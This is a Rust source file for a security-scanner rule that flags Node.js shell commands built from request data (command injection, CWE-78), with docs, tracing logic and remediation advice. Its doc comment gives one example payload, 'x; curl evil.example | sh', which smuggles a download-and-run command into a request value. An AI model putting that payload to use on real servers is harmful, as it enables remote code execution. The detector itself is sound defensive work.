//! Flags shell commands built from request data or other text that is not constant.
//!
//! ## What it checks
//! The command of Node's `child_process.exec` / `execSync` (called through the module, a
//! destructured or renamed import, or `util.promisify(exec)`), of `spawn` / `spawnSync` /
//! `execFile` / `execFileSync` with `{ shell: true }` or a shell (`sh -c …`, `cmd /c …`) as
//! the program, and of shelljs `shell.exec`, followed back like in `web/dom-xss` (local
//! variables, concatenation, template literals, string methods, helpers of the same file).
//! Confidence is high when request data (`req.query`, `req.body`, `req.params`, headers,
//! the raw URL; the same of Koa `ctx` and Fastify `request`) or another source is part of
//! the command, low when a part is of unknown origin, the command is visibly assembled
//! (concatenation or template literal) and the call is inside a request handler (a
//! function taking `req`, `request` or `ctx`; build and release scripts, which assemble
//! commands from their own settings, are left alone). Not flagged: constant commands, values passed
//! through a sanitizer or a number conversion (`parseInt`, `Number`, a `*escape*` /
//! `*sanitize*` / `shell-quote`-style function), and `execFile` / `spawn` with an argument
//! list and no shell (no shell parses those arguments).
//!
//! ## Why it matters
//! The shell reads `;`, `|`, `$(…)` and backticks in the text: a request value such as
//! `x; curl evil.example | sh` runs the attacker's commands on the server.
//!
//! ## Example
//! ```js
//! const { exec, execFile } = require("child_process");
//! exec(`convert ${req.query.file} out.png`);              // flagged
//! execFile("convert", [req.query.file, "out.png"]);       // not flagged (no shell)
//! ```
//!
//! ## Remediation
//! Run programs with `execFile` / `spawn` and an argument array (no shell), validate
//! values against an allow-list, and put `--` before user-supplied arguments.
//!
//! ## References
//! - CWE-78: Improper Neutralization of Special Elements used in an OS Command
//! - OWASP Top 10 2021, A03 Injection
//! - OWASP OS Command Injection Defense Cheat Sheet

use crate::js::{Script, Taint};
use palisade_core::{
    Confidence, FileContext, Finding, Owasp, Recommendation, RuleMeta, Severity, SourceFile,
};
use tree_sitter::Node;

pub static META: RuleMeta = RuleMeta {
    id: "web/command-injection",
    title: "Shell command built from request data",
    severity: Severity::Critical,
    confidence: Confidence::High,
    cwe: &[78],
    owasp: Owasp::A03,
    recommendation: Recommendation::WebFrontend,
    needs_network: false,
    options: &[],
    source: include_str!("command_injection.rs"),
};

pub static RULE: super::JsRule = super::JsRule {
    meta: &META,
    check,
};

/// Names a module object of `child_process` commonly goes by.
const MODULE_NAMES: &[&str] = &["child_process", "childProcess", "cp", "childproc", "proc"];

fn is_child_process_module(s: &Script<'_>, object: Node<'_>) -> bool {
    let resolved = s.resolve(object);
    let text: String = s.text(resolved).chars().filter(|c| !c.is_whitespace()).collect();
    if text.starts_with("require(") {
        return text.contains("child_process");
    }
    MODULE_NAMES.contains(&s.text(object))
}

/// What kind of call runs a shell: `Some(true)` the first argument is a shell command
/// line, `Some(false)` a program whose arguments may still go to a shell, `None` neither.
fn shell_call(s: &Script<'_>, callee: Node<'_>, imports_cp: bool, imports_shelljs: bool) -> Option<bool> {
    let (name, object) = match callee.kind() {
        "identifier" => (s.text(callee), None),
        "member_expression" => (
            callee.child_by_field_name("property").map(|p| s.text(p))?,
            callee.child_by_field_name("object"),
        ),
        _ => return None,
    };
    let from_cp = match object {
        Some(o) => is_child_process_module(s, o),
        None => imports_cp,
    };
    match name {
        "exec" | "execSync" if from_cp => Some(true),
        "exec" if imports_shelljs && object.is_some_and(|o| matches!(s.text(o), "shell" | "shelljs" | "sh")) => Some(true),
        "spawn" | "spawnSync" | "execFile" | "execFileSync" if from_cp => Some(false),
        _ if callee.kind() == "identifier" && imports_cp => {
            // `const run = util.promisify(exec)` / `promisify(cp.exec)`.
            let value = s.resolve(callee);
            if value.kind() != "call_expression" {
                return None;
            }
            let f = value.child_by_field_name("function").map(|f| s.text(f)).unwrap_or("");
            let arg = value
                .child_by_field_name("arguments")
                .and_then(|a| a.named_child(0))
                .map(|a| s.text(a))
                .unwrap_or("");
            (f.ends_with("promisify") && (arg == "exec" || arg.ends_with(".exec"))).then_some(true)
        }
        _ => None,
    }
}

/// For `spawn(program, args, options)`: the part that a shell reads, if one does.
fn shell_part<'t>(s: &Script<'t>, args: Node<'t>) -> Option<Node<'t>> {
    let program = args.named_child(0)?;
    let list = args.named_child(1);
    let options = (1..args.named_child_count())
        .filter_map(|i| args.named_child(i as u32))
        .find(|a| a.kind() == "object");
    let shell_option = options.is_some_and(|o| {
        let t: String = s.text(o).chars().filter(|c| !c.is_whitespace()).collect();
        t.contains("shell:true") || t.contains("shell:'/bin/") || t.contains("shell:\"/bin/")
    });
    if shell_option {
        return Some(program);
    }
    let prog = s.text(s.resolve(program)).trim_matches(['"', '\'', '`']);
    let shell = matches!(
        prog.rsplit('/').next().unwrap_or(prog),
        "sh" | "bash" | "zsh" | "dash" | "cmd" | "cmd.exe" | "powershell" | "pwsh"
    );
    let list = list.map(|l| s.resolve(l)).filter(|l| l.kind() == "array")?;
    if !shell {
        return None;
    }
    // The element after `-c` / `/c` / `-Command`.
    let mut after_flag = false;
    for i in 0..list.named_child_count() {
        let e = list.named_child(i as u32)?;
        if after_flag {
            return Some(e);
        }
        let t = s.text(e).trim_matches(['"', '\'', '`']);
        after_flag = matches!(t, "-c" | "/c" | "/C" | "-Command" | "-lc");
    }
    None
}

/// Whether `node` is inside a function that takes a request (`req`, `request`, `ctx`): a
/// server handler, where a value of unknown origin may well come from the request. Build
/// and release scripts assemble commands from their own settings all the time.
fn in_request_handler(s: &Script<'_>, node: Node<'_>) -> bool {
    let mut current = node.parent();
    while let Some(n) = current {
        if crate::js::is_function_kind(n.kind())
            && let Some(params) = n
                .child_by_field_name("parameters")
                .or_else(|| n.child_by_field_name("parameter"))
            && s
                .text(params)
                .split(|c: char| !c.is_ascii_alphanumeric() && c != '_' && c != '$')
                .any(|w| matches!(w, "req" | "request" | "ctx"))
        {
            return true;
        }
        current = n.parent();
    }
    false
}

fn check(s: &Script<'_>, file: &SourceFile, cx: &mut FileContext<'_>) {
    let imports_cp = s.imports.iter().any(|m| m == "child_process" || m == "node:child_process");
    let imports_shelljs = s.imports.iter().any(|m| m == "shelljs");
    if !imports_cp && !imports_shelljs && !s.source.contains("child_process") {
        return;
    }
    for &call in s.nodes("call_expression") {
        let Some(callee) = call.child_by_field_name("function") else { continue };
        let Some(whole_line) = shell_call(s, callee, imports_cp, imports_shelljs) else {
            continue;
        };
        let Some(args) = call.child_by_field_name("arguments").filter(|a| a.kind() == "arguments") else {
            continue;
        };
        let command = if whole_line { args.named_child(0) } else { shell_part(s, args) };
        let Some(command) = command else { continue };
        let taint = s.taint(command);
        let visibly_built = matches!(s.resolve(command).kind(), "binary_expression" | "template_string");
        let (confidence, what) = match taint {
            Taint::Source(src, _) => (Confidence::High, format!("`{src}`, which the sender of the request controls,")),
            Taint::Unknown if visibly_built && in_request_handler(s, call) => (
                Confidence::Low,
                "a value palisade could not trace to a constant".to_string(),
            ),
            _ => continue,
        };
        let mut finding = Finding::new(
            &META,
            s.span(file, call),
            format!("the shell command run by {}() is built from {what} and the shell reads `;`, `|` and `$(…)` in it: command injection; run the program with execFile/spawn and an argument array (no shell), and check the value against an allow-list", s.text(callee)),
        )
        .with_confidence(confidence);
        if confidence == Confidence::Low {
            finding = finding.with_severity(Severity::High);
        }
        cx.report(finding);
    }
}
